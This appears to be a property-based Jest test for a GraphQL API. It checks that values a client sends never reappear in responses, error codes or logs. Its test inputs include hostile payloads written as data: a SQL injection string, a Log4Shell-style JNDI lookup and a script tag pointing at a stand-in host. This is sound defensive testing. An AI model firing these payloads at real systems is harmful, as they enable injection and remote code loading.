import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import {
  buildSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  type GraphQLField,
  type GraphQLInputType,
} from 'graphql';
import { ERROR_CODES } from '../../kernel/errors.ts';
import { loggingGraph, type LoggingGraph } from './loggingGraph.ts';

// Whatever a client sends, nobody is told again: not he himself in an error or a header, not whoever reads the log. Every argument
// of every root field is tried with values of its type and of others, all of which carry marks.

const IDENTITY = '441490199203150028';
const HOST = 'marked-host.intranet.example';
const MARKS = [IDENTITY, HOST];

let graph: LoggingGraph;
beforeAll(async () => {
  graph = await loggingGraph();
});
afterAll(() => graph[Symbol.asyncDispose]());

const schema = buildSchema(readFileSync(join(import.meta.dirname, '../../schema/api.graphql'), 'utf8'), { assumeValidSDL: true });

const marked = fc.constantFrom(
  IDENTITY,
  `RESIDENT_ID:${IDENTITY}`,
  `https://${HOST}/return?holder=${IDENTITY}`,
  `${IDENTITY}' OR 1=1 --`,
  `\${jndi:ldap://${HOST}/a}`,
  `<script src="//${HOST}"></script>`,
  `${'9'.repeat(300)}${HOST}`,
  `\u0000${IDENTITY}\n${HOST}`,
);

/** Values of a type whose texts are all marked. */
function right(type: GraphQLInputType, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return right(type.ofType as GraphQLInputType, depth);
  if (isListType(type)) return fc.array(right(type.ofType as GraphQLInputType, depth + 1), { minLength: 1, maxLength: 2 });
  if (isEnumType(type)) return fc.constantFrom(...type.getValues().map(({ name }) => name));
  if (isInputObjectType(type))
    return fc.record(
      Object.fromEntries(Object.values(type.getFields()).map((field) => [field.name, right(field.type, depth + 1)])),
    );
  switch (getNamedType(type).name) {
    case 'Int':
    case 'Float':
    case 'Fen':
      return fc.integer({ min: 1, max: 100 });
    case 'Boolean':
      return fc.boolean();
    case 'Date':
      return fc.constant('2026-01-31');
    default:
      return marked;
  }
}

/** Values that are wrong somewhere: another kind, a field too many, a name that is a mark. */
function wrong(type: GraphQLInputType): fc.Arbitrary<unknown> {
  const other = fc.oneof(
    marked,
    fc.array(marked, { minLength: 1, maxLength: 2 }),
    marked.map((text) => ({ [text]: text })),
    marked.map((text) => ({ a: { [text]: [text] } })),
  );
  const named = getNamedType(type);
  if (!isInputObjectType(named)) return other;
  const broken = Object.keys(named.getFields()).map((name) =>
    fc.tuple(right(type), other).map(([value, instead]) => ({ ...(value as object), [name]: instead })),
  );
  return fc.oneof(
    other,
    ...broken,
    fc.tuple(right(type), marked).map(([value, key]) => ({ ...(value as object), [key]: key })),
  );
}

interface RootField {
  readonly name: string;
  readonly kind: 'query' | 'mutation';
  readonly field: GraphQLField<unknown, unknown>;
}

const FIELDS: readonly RootField[] = (['query', 'mutation'] as const).flatMap((kind) =>
  Object.values((kind === 'query' ? schema.getQueryType() : schema.getMutationType())?.getFields() ?? {})
    .filter(({ args }) => args.length > 0)
    .map((field) => ({ name: field.name, kind, field })),
);

function documentOf({ name, kind, field }: RootField): string {
  const declared = field.args.map((argument) => `$${argument.name}: ${String(argument.type)}`).join(', ');
  const given = field.args.map((argument) => `${argument.name}: $${argument.name}`).join(', ');
  return `${kind} (${declared}) { ${name}(${given}) ${isLeafType(getNamedType(field.type)) ? '' : '{ __typename }'} }`;
}

const requestOf = (root: RootField): fc.Arbitrary<{ readonly variables: object; readonly as: string }> =>
  fc.record({
    variables: fc.record(
      Object.fromEntries(root.field.args.map(({ name, type }) => [name, fc.oneof(right(type), wrong(type))] as const)),
    ),
    as: fc.constantFrom('citizen-l2', 'official', 'company-agent'),
  });

const PURPOSE = {
  'meijiang-purpose': 'case-handling; item=11441402MB2C90560K4440731002000; case=44140220240506000000000000017',
};

function expectUnmarked(text: string): void {
  for (const mark of MARKS) expect(text).not.toContain(mark);
}

test('every input type of the graph is among what is tried', () => {
  const tried = new Set<string>();
  const visit = (type: GraphQLInputType): void => {
    const named = getNamedType(type);
    if (tried.has(named.name)) return;
    tried.add(named.name);
    if (isInputObjectType(named)) for (const field of Object.values(named.getFields())) visit(field.type);
  };
  for (const { field } of FIELDS) for (const { type } of field.args) visit(type);
  const all = Object.values(schema.getTypeMap()).filter(isInputObjectType);
  expect(all.length).toBeGreaterThan(10);
  expect(all.map(({ name }) => name).filter((name) => !tried.has(name))).toEqual([]);
});

test.each(FIELDS)(
  '$kind $name tells nobody its variables',
  async (root) => {
    const query = documentOf(root);
    await fc.assert(
      fc.asyncProperty(requestOf(root), async ({ variables, as }) => {
        const told = await graph.post({ query, variables }, { ...PURPOSE, ...(await graph.authorization(as)) });
        expectUnmarked(told.text);
        const { errors = [] } = JSON.parse(told.body) as { errors?: { extensions: { code: string } }[] };
        for (const { extensions } of errors) {
          expect(Object.keys(ERROR_CODES)).toContain(extensions.code);
          expect(extensions.code).not.toBe('INTERNAL');
        }
      }),
      { numRuns: 12, seed: 20_261_129, endOnFailure: true },
    );
  },
  60_000,
);

describe('neither is anybody told', () => {
  const query = '{ __typename }';

  test.each<{ what: string; send: () => ReturnType<LoggingGraph['post']> }>([
    { what: 'a document that cannot be parsed', send: () => graph.post({ query: `{ ${IDENTITY} "${HOST}` }) },
    { what: 'a literal of another type', send: () => graph.post({ query: `{ division(code: { a: "${IDENTITY}" }) { name } }` }) },
    {
      what: 'a literal in a list',
      send: () => graph.post({ query: `{ searchServiceItems(first: ["${HOST}"]) { totalCount } }` }),
    },
    { what: 'the name of an operation', send: () => graph.post({ query, operationName: `${IDENTITY} ${HOST}` }) },
    { what: 'an operation’s name that is no text', send: () => graph.post({ query, operationName: { [HOST]: IDENTITY } }) },
    { what: 'a query that is no text', send: () => graph.post({ query: { [HOST]: IDENTITY } }) },
    { what: 'variables that are no object', send: () => graph.post({ query, variables: `${IDENTITY} ${HOST}` }) },
    { what: 'extensions', send: () => graph.post({ query, extensions: { [IDENTITY]: HOST } }) },
    { what: 'no JSON', send: () => graph.post(`{"query": ${IDENTITY} ${HOST}`) },
    { what: 'a key twice', send: () => graph.post(`{"${HOST}":1,"${HOST}":2}`) },
    { what: 'a token', send: () => graph.post({ query }, { authorization: `Bearer ${IDENTITY}.${HOST}.x` }) },
    { what: 'a scheme', send: () => graph.post({ query }, { authorization: `${HOST} ${IDENTITY}` }) },
    { what: 'a purpose', send: () => graph.post({ query }, { 'meijiang-purpose': `${HOST}; case=${IDENTITY}` }) },
    { what: 'a type of body', send: () => graph.post({ query }, { 'content-type': `text/${HOST}` }) },
    { what: 'what is accepted', send: () => graph.post({ query }, { accept: `text/${HOST}` }) },
    { what: 'an id of the client’s', send: () => graph.post({ query }, { 'x-request-id': `${IDENTITY}-${HOST}` }) },
    { what: 'a path', send: () => graph.tell(`/${HOST}/${IDENTITY}`, {}) },
    { what: 'parameters', send: () => graph.tell(`/graphql?query=${IDENTITY}&variables=${HOST}`, {}) },
  ])('$what', async ({ send }) => {
    expectUnmarked((await send()).text);
  });
});

test('the log has a line for every call, and no mark in any', async () => {
  const told = await graph.post({ query: `{ mark${IDENTITY}: __typename }` });
  expect(() => expectUnmarked(told.text)).toThrow(); // what a client may choose is in his answer: the marks would be found
  const lines = graph.lines();
  expect(lines.filter((line) => line.includes('"event":"upstream"')).length).toBeGreaterThan(20);
  for (const line of lines) expectUnmarked(line);
});
